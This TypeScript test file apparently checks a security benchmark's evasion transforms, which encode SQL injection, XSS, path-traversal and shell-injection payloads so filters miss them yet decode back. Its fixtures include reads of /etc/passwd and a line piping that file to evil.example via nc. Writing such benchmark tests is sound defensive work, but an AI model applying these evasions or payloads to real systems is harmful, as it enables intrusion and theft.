import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  decimalRef, entityEncodeAttributes, fullwidth, hexRef, htmlRandomCase, iisUnicodeEncode, isCmdExe, isCode, jsonUnicodeEscape,
  mysqlVersionedKeywords, nullByteSql, nullByteTraversal, outsideQuotes, overlongTraversal, paddedNoSemiRef, plusForSpace, seeded,
  shellBackslash, shellIfs, shellLineContinuation, shellQuotes, sqlRandomCase, sqlReplaceSpaces, TRANSFORMS, urlEncodeAll,
} from '../../../bench/evasion-transforms.js';

/** What a decoder of each encoding gives back (the targets' side), to check the encodings round-trip. */
const urlDecode = (s: string) => decodeURIComponent(s);
const iisDecode = (s: string) => s.replace(/%u([0-9a-f]{4})/gi, (_, h: string) => String.fromCharCode(parseInt(h, 16)));
const nfkc = (s: string) => s.normalize('NFKC');
/** POSIX shell quote removal on a word list (enough for the transforms' output: no expansions). */
const shellUnquote = (s: string) => s.replace(/\\\n/g, '').replace(/'([^']*)'/g, '$1').replace(/\\(.)/g, '$1');

describe('evasion transforms (bench/evasion-transforms.ts)', () => {
  it('URL-encodes every UTF-8 byte, once or twice, and decodes back', () => {
    assert.equal(urlEncodeAll("' OR 1=1"), '%27%20%4F%52%20%31%3D%31');
    assert.equal(urlEncodeAll('é'), '%C3%A9');
    const p = "<img src=x onerror=alert('é')>";
    assert.equal(urlDecode(urlEncodeAll(p)), p);
    assert.equal(urlDecode(urlDecode(urlEncodeAll(urlEncodeAll(p)))), p);
  });

  it('spells every code unit as IIS %uXXXX', () => {
    assert.equal(iisUnicodeEncode('../'), '%u002E%u002E%u002F');
    assert.equal(iisDecode(iisUnicodeEncode('a b/é')), 'a b/é');
  });

  it('escapes every character of a JSON string as \\uXXXX, which JSON.parse reverses', () => {
    const p = '"; cat /etc/passwd #\\';
    assert.equal(JSON.parse(`"${jsonUnicodeEscape(p)}"`), p);
    assert.equal(jsonUnicodeEscape('<'), '\\u003c');
  });

  it('full-width forms fold back under NFKC; percent-encoded payloads are skipped', () => {
    assert.equal(fullwidth('<svg/onload=alert(1)>'), '＜ｓｖｇ／ｏｎｌｏａｄ＝ａｌｅｒｔ（１）＞');
    assert.equal(nfkc(fullwidth("1' UNION SELECT 1--")!), "1' UNION SELECT 1--");
    assert.equal(fullwidth('..%2f..%c0%af'), undefined);
    assert.equal(fullwidth('\u00e9'), undefined);
  });

  it('finds SQL text outside literals, a leading unbalanced quote closing the application\'s string', () => {
    const s = "' or 'a b'='a b";
    const o = outsideQuotes(s);
    assert.equal(o[1], true); // the space after the closing quote
    assert.equal(o[s.indexOf('a b')], false);
    assert.equal(sqlReplaceSpaces(s, '/**/'), "'/**/or/**/'a b'='a b");
  });

  it('replaces SQL spaces up to a line comment only', () => {
    assert.equal(sqlReplaceSpaces("1' ORDER BY 3-- -", '\n'), "1'\nORDER\nBY\n3-- -");
    assert.equal(sqlReplaceSpaces(' ORDER BY 2# x', '%0B'), '%0BORDER%0BBY%0B2# x');
    assert.equal(sqlReplaceSpaces('nospace', '/**/'), undefined);
  });

  it('mixes the case of SQL keywords outside literals, seeded, and leaves data alone', () => {
    const a = sqlRandomCase("' union select 'select' from users--", seeded(7))!;
    assert.equal(a, sqlRandomCase("' union select 'select' from users--", seeded(7)));
    assert.equal(a.toLowerCase(), "' union select 'select' from users--");
    assert.ok(a.includes("'select'"), a);
    for (const w of ['union', 'select', 'from']) {
      const got = a.match(new RegExp(`\\b${w}\\b`, 'i'))![0];
      assert.ok(got !== w && got !== w.toUpperCase(), `${w} mixed: ${got}`);
    }
    assert.equal(sqlRandomCase('users', seeded(1)), undefined);
  });

  it('wraps SQL keywords in MySQL versioned comments', () => {
    assert.equal(mysqlVersionedKeywords("1 UNION SELECT pass FROM users where x='or'"),
      "1 /*!50000UNION*/ /*!50000SELECT*/ pass /*!50000FROM*/ users /*!50000where*/ x='or'");
  });

  it('writes spaces as + only when there are spaces', () => {
    assert.equal(plusForSpace('; cat /etc/passwd'), ';+cat+/etc/passwd');
    assert.equal(plusForSpace(';id'), undefined);
  });

  it('spells a traversal\'s dots and separators as overlong UTF-8, and appends a NUL', () => {
    assert.equal(overlongTraversal('../../etc/passwd'), '%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd');
    assert.equal(overlongTraversal('..\\win.ini'), '%c0%ae%c0%ae%c1%9cwin%c0%aeini');
    assert.equal(overlongTraversal('%2e%2e%2f'), undefined);
    assert.equal(nullByteTraversal('../../etc/passwd'), '../../etc/passwd%00.png');
    assert.equal(nullByteSql("' or 1=1--"), "' or 1=1--%00");
  });

  it('re-spells HTML attribute values with character references, not text or tag names', () => {
    assert.equal(entityEncodeAttributes('<a href="javascript:x">j</a>', decimalRef),
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#120;">j</a>');
    assert.equal(entityEncodeAttributes('<img src=x onerror=alert(1)>', hexRef), '<img src=&#x78; onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>');
    assert.equal(entityEncodeAttributes("<svg/onload='a'/>", paddedNoSemiRef), "<svg/onload='&#0000097'/>");
    assert.equal(entityEncodeAttributes('<script>alert(1)</script>', decimalRef), undefined);
    assert.equal(entityEncodeAttributes('javascript:alert(1)', decimalRef), undefined);
  });

  it('mixes the case of tag names, attribute names and schemes, not of script', () => {
    const out = htmlRandomCase('<img src=x onerror=alert(1)><a href="javascript:go()">', seeded(3))!;
    assert.equal(out.toLowerCase(), '<img src=x onerror=alert(1)><a href="javascript:go()">');
    assert.ok(out.includes('alert(1)') && out.includes('go()'), out);
    assert.ok(!out.includes('<img') || !out.includes('onerror') || !out.includes('javascript'), out);
  });

  it('quotes and backslashes inside shell words undo to the same command line', () => {
    const p = ';cat /etc/passwd | nc evil.example 4444';
    for (const f of [shellQuotes, shellBackslash, shellLineContinuation]) {
      const enc = f(p)!;
      assert.notEqual(enc, p);
      assert.equal(shellUnquote(enc), p, f.name);
    }
    assert.equal(shellQuotes('; whoami'), "; w'h'oami");
    assert.equal(shellBackslash('; whoami'), '; w\\hoami');
    assert.equal(shellLineContinuation('; id'), '; i\\\nd');
  });

  it('leaves variables, assignments, quoted text, cmd.exe lines and code alone', () => {
    assert.equal(shellQuotes('; $HOME'), undefined);
    assert.equal(shellQuotes('a;CMD=x'), undefined); // the name of an assignment, and one-letter words
    assert.equal(shellQuotes("; echo 'hello world'"), "; e'c'ho 'hello world'");
    assert.ok(isCmdExe('& type c:\\windows\\win.ini') && isCmdExe('^dir') && isCmdExe('%COMSPEC%'));
    assert.ok(isCode("<?php system('id'); ?>") && isCode('{{7*7}}') && isCode("exec('ls')"));
    assert.equal(shellQuotes("<?php system('id'); ?>"), undefined);
    assert.equal(shellIfs('& dir c:\\', false), undefined);
  });

  it('writes spaces as $IFS, $IFS$9 before a word character, or ${IFS}', () => {
    assert.equal(shellIfs(';cat /etc/passwd', false), ';cat$IFS/etc/passwd');
    assert.equal(shellIfs(';ping -c 3 x', false), ';ping$IFS-c$IFS$93$IFS$9x');
    assert.equal(shellIfs(';ls  -la', true), ';ls${IFS}-la');
    assert.equal(shellIfs(";echo 'a b'", true), ";echo${IFS}'a b'");
  });

  it('every transform names families and placements, and is deterministic', () => {
    for (const t of TRANSFORMS) {
      assert.ok(t.families.length > 0 && t.placements.length > 0, t.name);
      const p = "1' or 1=1 -- <img src=x onerror=alert(1)> ; cat ../../etc/passwd";
      assert.equal(t.apply(p, seeded(42)), t.apply(p, seeded(42)), t.name);
    }
  });
});
